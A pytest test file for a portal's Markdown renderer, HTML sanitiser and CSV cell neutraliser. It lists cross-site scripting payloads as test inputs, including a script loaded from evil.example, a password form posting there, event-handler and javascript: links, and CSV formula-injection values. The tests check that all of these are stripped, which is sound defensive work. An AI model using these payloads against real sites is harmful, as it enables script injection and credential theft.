"""User text becomes HTML only through render_markdown: hostile markup never survives, Markdown does."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from markupsafe import Markup

from qn_portal.text import neutralise_csv_cell, render_markdown, sanitise_html

HOSTILE = {
    "script": "Bonjour <script>alert(1)</script>",
    "script-upper": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "form": '<form action="https://evil.example"><input name="password"><button>OK</button></form>',
    "svg-onload": '<svg onload="alert(1)"><circle r="4"/></svg>',
    "img-onerror": '<img src="x" onerror="alert(1)">',
    "markdown-img-onerror": '![x](x" onerror="alert(1))',
    "javascript-link": "[x](javascript:alert(1))",
    "javascript-link-entities": "[x](&#106;avascript:alert(1))",
    "javascript-link-case": "[x](JaVaScRiPt:alert(1))",
    "javascript-autolink": "<javascript:alert(1)>",
    "javascript-html-link": '<a href="javascript:alert(1)">x</a>',
    "data-link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data-image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "vbscript-link": "[x](vbscript:msgbox(1))",
    "style-attribute": '<p style="position:fixed;top:0">x</p>',
    "style-tag": "<style>body{display:none}</style>",
    "comment": "avant <!-- secret --> après",
    "object": '<object data="x.swf"></object><embed src="x.swf">',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "link-onclick": '<a href="https://ok.example" onclick="alert(1)">x</a>',
    "math": "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
}

SAFE_TAGS = {"p", "br", "hr", "strong", "em", "b", "i", "code", "pre", "blockquote", "ul", "ol", "li", "h2", "h3",
             "h4", "h5", "h6", "a", "table", "thead", "tbody", "tr", "th", "td", "del", "abbr", "img"}
SAFE_ATTRIBUTES = {"href", "title", "src", "alt", "align", "rel"}
SAFE_SCHEMES = {"http", "https", "mailto", "tel"}


class Inspector(HTMLParser):
    """What a browser would build from the HTML: tags, attributes, comments."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes, self.comments = [], [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes.extend((tag, name, value or "") for name, value in attrs)

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        self.comments.append(data)


def inspect(html: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector


def scheme(url: str) -> str | None:
    # Browsers drop control characters and spaces before deciding the scheme.
    cleaned = "".join(ch for ch in url if ord(ch) > 32).lower()
    match = re.match(r"([a-z][a-z0-9+.-]*):", cleaned)
    return match.group(1) if match else None


def assert_harmless(html: str, label: str = "") -> None:
    found = inspect(html)
    assert set(found.tags) <= SAFE_TAGS, (label, html)
    assert found.comments == [], (label, html)
    for tag, name, value in found.attributes:
        assert name in SAFE_ATTRIBUTES, (label, tag, name, html)
        if name in ("href", "src"):
            assert scheme(value) in SAFE_SCHEMES | {None}, (label, value, html)


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_markup_never_survives(name):
    assert_harmless(str(render_markdown(HOSTILE[name])), name)


def test_all_hostile_inputs_together():
    assert_harmless(str(render_markdown("\n\n".join(HOSTILE.values()))))


def test_the_inspector_catches_what_it_should():
    """The checker above fails on raw hostile HTML (so the tests that use it can fail)."""
    for name, sample in HOSTILE.items():
        if name.startswith(("markdown-", "javascript-link", "data-", "vbscript-")):
            continue  # Markdown syntax, only dangerous once rendered
        with pytest.raises(AssertionError):
            assert_harmless(sample, name)


def test_hostile_links_keep_their_text_but_lose_their_target():
    html = str(render_markdown("[cliquez ici](javascript:alert(1)) et [là](data:text/html,x)"))
    assert "cliquez ici" in html and "là" in html
    assert "href" not in html


def test_comments_are_dropped_not_escaped():
    html = str(render_markdown("avant <!-- secret --> après"))
    assert "secret" not in html
    assert "avant" in html and "après" in html


def test_script_content_is_not_left_as_executable():
    html = str(render_markdown("<script>alert(1)</script>"))
    assert "<script" not in html.lower()


def test_headings_start_at_h2():
    html = str(render_markdown("# Titre\n\n## Sous-titre\n\n### Plus bas"))
    assert "<h1" not in html
    assert "<h2>Titre</h2>" in html
    assert "<h2>Sous-titre</h2>" in html
    assert "<h3>Plus bas</h3>" in html


def test_lists_emphasis_and_code():
    html = str(render_markdown(
        "Un **atelier** *gratuit* :\n\n- mardi\n- jeudi\n\n1. un\n2. deux\n\n"
        "En ligne : `print()`\n\n```\nx = 1 < 2\n```\n\n> citation"
    ))
    assert "<strong>atelier</strong>" in html and "<em>gratuit</em>" in html
    assert "<ul>" in html and "<li>mardi</li>" in html
    assert "<ol>" in html and "<li>deux</li>" in html
    assert "<code>print()</code>" in html
    assert "<pre><code>x = 1 &lt; 2" in html
    assert "<blockquote>" in html


def test_links_get_rel_noopener():
    html = str(render_markdown("Voir [le site](https://www.example.org/page?a=1&b=2 \"Titre\") ou <mailto:a@example.org>"))
    link = re.search(r'<a [^>]*href="https://www.example.org/page\?a=1&amp;b=2"[^>]*>le site</a>', html)
    assert link, html
    assert re.search(r'rel="[^"]*noopener', link.group(0))
    assert 'title="Titre"' in link.group(0)
    assert 'href="mailto:a@example.org"' in html


def test_tables():
    html = str(render_markdown("| Jour | Lieu |\n|:-----|-----:|\n| mardi | centre social |"))
    assert "<table>" in html and "<thead>" in html and "<tbody>" in html
    assert re.search(r"<th[^>]*>Jour</th>", html)
    assert re.search(r'<td align="right">centre social</td>', html)


def test_plain_images_survive_without_handlers():
    html = str(render_markdown('![Affiche](https://www.example.org/affiche.png "Atelier")'))
    assert re.search(r'<img [^>]*src="https://www.example.org/affiche.png"', html)
    assert 'alt="Affiche"' in html


def test_result_is_markup_and_empty_input_is_empty():
    assert isinstance(render_markdown("x"), Markup)
    assert str(render_markdown("")) == ""
    assert str(render_markdown(None)) == ""


def test_sanitise_html_on_its_own():
    assert sanitise_html('<p onclick="x()">ok</p><script>x()</script>') == "<p>ok</p>"


@pytest.mark.parametrize("value, expected", [
    ("=SUM(A1:A2)", "'=SUM(A1:A2)"),
    ("+33 5 56 00 00 00", "'+33 5 56 00 00 00"),
    ("-2+3", "'-2+3"),
    ("@SUM(1)", "'@SUM(1)"),
    ("\tcmd", "'\tcmd"),
    ("\r=1", "'\r=1"),
    ("Grand Parc", "Grand Parc"),
    ("a=b", "a=b"),
    ("", ""),
    (None, ""),
    (42, "42"),
])
def test_csv_cells_are_neutralised(value, expected):
    assert neutralise_csv_cell(value) == expected
